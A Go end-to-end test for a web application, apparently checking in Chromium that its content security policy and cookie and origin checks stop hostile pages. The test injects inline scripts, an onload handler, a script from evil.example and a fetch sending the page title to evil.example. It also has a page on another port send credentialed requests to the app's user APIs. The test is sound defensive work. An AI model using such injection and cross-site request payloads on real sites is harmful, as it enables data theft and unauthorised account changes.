package e2e

import (
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"testing"

	"github.com/relevo/relevo/models"
)

// TestSecurityChromium serves the desk over TLS behind a trusted proxy, with cookie
// names of their own, and walks through every page in Chromium: the live connection
// stands, nothing breaks the policy, and a script that got into a page does not run
// and cannot report to anybody. Then a page of the same site, another port, tries to
// use the user's session: the browser does send the cookie there, and gets nowhere.
func TestSecurityChromium(t *testing.T) {
	t.Parallel()
	p := start(t, models.SQLite, servesPages(t), "RELEVO_HTTP_TRUSTED_PROXIES=127.0.0.1", "RELEVO_SESSION_COMPAT_COOKIE_NAMES=false",
		"RELEVO_ENVIRONMENT=production", "SECRET_KEY="+models.NewToken())
	max := p.hire("max", models.Master)
	c := launch(t, tlsProxy(t, p.url))
	c.signIn("max", "/operations/")
	if held := c.do("max", "cookies", nil); !strings.Contains(held, "__Host-session secure httpOnly Lax /") || strings.Contains(held, "\nsession") {
		t.Errorf("cookies of the browser:\n%s", held)
	}
	for _, page := range []string{"/dashboard/", "/operations/", "/operations/create", "/operations/history", "/clients/", "/users/"} {
		c.do("max", "goto", map[string]any{"path": page})
		c.do("max", "wait", map[string]any{"selector": "#connection[data-state=on]"})
		c.do("max", "eval", map[string]any{"value": `document.querySelectorAll('details').forEach((d) => { d.open = true; })`})
	}
	client := max.newClient("11112222")
	_, code := max.newOperationOf(client)
	c.do("max", "toast", map[string]any{"value": code})
	if faults := c.do("max", "faults", nil); faults != "" {
		t.Errorf("faults of the pages: %s", faults)
	}

	got := c.do("max", "eval", map[string]any{"value": `(async () => {
		const broken = [];
		document.addEventListener('securitypolicyviolation', (e) => broken.push(e.effectiveDirective));
		const inline = document.createElement('script');
		inline.textContent = 'window.ran = true';
		const handler = document.createElement('div');
		handler.innerHTML = '<img src="/static/icon.svg" onload="window.ran = true" style="width: 5px">';
		const foreign = document.createElement('script');
		foreign.src = 'https://evil.example/x.js';
		const frame = document.createElement('iframe');
		frame.src = '/dashboard/';
		document.body.append(inline, handler, foreign, frame);
		const told = await fetch('https://evil.example/?' + document.title).then(() => 'told', () => 'kept');
		try { new WebSocket('wss://evil.example/'); } catch { /* some versions throw */ }
		for (const until = Date.now() + 20000; Date.now() < until && broken.length < 7; ) await new Promise((r) => setTimeout(r, 20));
		return [window.ran === true, told, [...new Set(broken)].sort().join(' ')].join(' | ');
	})()`})
	if want := `"false | kept | connect-src frame-src script-src-attr script-src-elem style-src-attr"`; got != want {
		t.Errorf("a hostile script: %s, want %s", got, want)
	}

	// Cookies know no ports: to the browser this page belongs to the desk's site.
	plain := start(t, models.SQLite)
	victim, other := plain.hire("vera", models.Master), plain.hire("otto", models.Trader)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(`<!doctype html><p id="evil">Has ganado`))
	}))
	t.Cleanup(evil.Close)
	v := launch(t, plain.url)
	v.do("vera", "goto", map[string]any{"path": "/login"})
	v.fillIn("vera")
	if held := v.do("vera", "cookies", nil); !strings.Contains(held, "\nsession httpOnly Lax /") {
		t.Errorf("cookies with the names of the contract:\n%s", held)
	}
	v.do("vera", "eval", map[string]any{"value": fmt.Sprintf(`void setTimeout(() => { location = %q; }, 0)`, evil.URL)})
	v.do("vera", "wait", map[string]any{"selector": "#evil"})
	got = v.do("vera", "eval", map[string]any{"value": fmt.Sprintf(`(async () => {
		const desk = %q;
		const all = { credentials: 'include' };
		const outcome = (f) => f.then((r) => r.type + ' ' + r.status, () => 'failed');
		const socket = await new Promise((done) => {
			const s = new WebSocket(desk.replace('http', 'ws') + '/socket.io/?EIO=4&transport=websocket');
			s.onopen = () => done('open');
			s.onerror = () => done('failed');
		});
		return [
			'websocket ' + socket,
			'polling ' + await outcome(fetch(desk + '/socket.io/?EIO=4&transport=polling', all)),
			'read ' + await outcome(fetch(desk + '/users/api/list', all)),
			'json ' + await outcome(fetch(desk + '/users/api/create', { ...all, method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' })),
			'blind ' + await outcome(fetch(desk + '/users/api/toggle_status/%d', { ...all, method: 'POST', mode: 'no-cors', body: 'x' })),
		].join(', ');
	})()`, plain.url, other.id)})
	if want := `"websocket failed, polling failed, read failed, json failed, blind failed"`; got != want {
		t.Errorf("a page on another port: %s, want %s", got, want)
	}
	if user := victim.send("GET", fmt.Sprintf("/users/api/%d", other.id), nil).want(200).object("user"); user["status"] != models.Active {
		t.Errorf("a page on another port made otto %v", user["status"])
	}
	if n := plain.metric(`relevo_handshake_failures_total{reason="origin"}`); n != "2" {
		t.Errorf("%s foreign handshakes counted, want 2", n)
	}
}

// tlsProxy ends TLS in front of the program, as the usual proxies do, and passes Host.
func tlsProxy(t *testing.T, to string) string {
	t.Helper()
	target, err := url.Parse(to)
	if err != nil {
		t.Fatal(err)
	}
	transport := &http.Transport{}
	s := httptest.NewUnstartedServer(&httputil.ReverseProxy{Transport: transport, Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(target)
		r.SetXForwarded()
		r.Out.Host = r.In.Host
	}})
	// Chromium first says of each certificate that it does not know it.
	s.Config.ErrorLog = log.New(io.Discard, "", 0)
	s.StartTLS()
	t.Cleanup(transport.CloseIdleConnections)
	t.Cleanup(func() { s.CloseClientConnections(); s.Close() })
	return s.URL
}
